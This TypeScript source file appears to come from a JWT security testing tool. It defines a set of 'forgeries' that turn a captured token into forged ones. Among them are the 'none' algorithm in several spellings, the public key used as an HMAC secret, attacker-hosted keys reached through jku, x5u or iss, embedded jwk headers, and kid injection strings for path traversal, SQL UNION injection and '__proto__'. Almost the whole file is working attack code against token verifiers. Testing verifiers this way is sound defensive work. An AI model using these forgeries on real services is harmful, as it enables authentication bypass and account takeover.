import { createPublicKey } from 'node:crypto'
import type { JSONWebKeySet, JWTPayload } from 'jose'
import type { HostedKeys } from '../hosted-keys.ts'
import { compact, hmacSigned, signedBy, type Template } from './jwt.ts'

/** The forger's material. */
interface Workshop {
  /** A captured token. */
  readonly template: Template
  /** The claims of the forged token. */
  readonly claims: JWTPayload
  /** The IdP's public keys. */
  readonly jwks: JSONWebKeySet
  /** The forger's own site and key. */
  readonly hosted: HostedKeys
}

/** A way of forging, as a number of tokens to try. */
export type Forgery = (workshop: Workshop) => Promise<string[]> | string[]

/** New claims under the old signature. */
export const tampered: Forgery = ({ template, claims }) => [
  compact(template.header, claims, template.signature),
]

/** No signature at all (RFC 8725 section 2.1), in the spellings that got through somewhere once. */
export const unsigned: Forgery = ({ template, claims }) =>
  ['none', 'None', 'NONE', ''].flatMap((alg) => [
    compact({ ...template.header, alg }, claims, ''),
    compact({ ...template.header, alg }, claims, template.signature),
  ])

/** The public key, as if it were the secret of an HMAC (RFC 8725 section 2.1), in each form that a verifier may hold it in. */
export const publicKeyAsSecret: Forgery = ({ template, claims, jwks }) =>
  jwks.keys.flatMap((jwk) => {
    const key = createPublicKey({ key: { ...jwk }, format: 'jwk' })
    const pem = key.export({ type: 'spki', format: 'pem' }).toString()
    const secrets = [pem, pem.trim(), key.export({ type: 'spki', format: 'der' }), JSON.stringify(jwk)]
    return secrets.map((secret) => hmacSigned({ ...template.header, kid: jwk.kid }, claims, secret))
  })

/** Another key under the name of the IdP's. */
export const ownKey: Forgery = async ({ template, claims, hosted }) => [
  await signedBy(hosted.key, template.header, claims),
]

/** Another key under a name that nobody has seen yet: whoever verifies has to ask the IdP for it. */
export const unknownKey: Forgery = async ({ template, claims, hosted }) => [
  await signedBy(hosted.key, { ...template.header, kid: hosted.kid }, claims),
]

/** A token of the forger's own issuer, which serves metadata and keys to whoever follows `iss`. */
export const otherIssuer: Forgery = async ({ template, claims, hosted }) => [
  await signedBy(hosted.key, { ...template.header, kid: hosted.kid }, { ...claims, iss: hosted.url }),
]

/** A `kid` that leads a careless look-up elsewhere: to an empty file, another row, another site (RFC 8725 section 3.10). */
export const kidInjection: Forgery = async ({ template, claims, hosted }) => {
  const header = (kid: string) => ({ ...template.header, kid })
  return [
    hmacSigned(header('../../../../../../dev/null'), claims, ''),
    hmacSigned(header("' UNION SELECT 'secret' -- "), claims, 'secret'),
    await signedBy(hosted.key, header(hosted.jwksUrl), claims),
    await signedBy(hosted.key, header('__proto__'), claims),
  ]
}

/** A header that says where the key is to be fetched (RFC 7515 section 4.1.2 and section 4.1.5). */
export const keyUrl: Forgery = async ({ template, claims, hosted }) =>
  Promise.all(
    [{ jku: hosted.jwksUrl }, { x5u: `${hosted.url}/x5u` }].map((where) =>
      signedBy(hosted.key, { ...template.header, kid: hosted.kid, ...where }, claims),
    ),
  )

/** A header that brings the key along (RFC 7515 section 4.1.3). */
export const embeddedKey: Forgery = async ({ template, claims, hosted }) => {
  const { kid: _theirs, ...header } = template.header
  const jwk = hosted.key.publicJwk
  return [
    await signedBy(hosted.key, { ...header, jwk }, claims),
    await signedBy(hosted.key, { ...header, jwk: { ...jwk, kid: hosted.kid }, kid: hosted.kid }, claims),
  ]
}
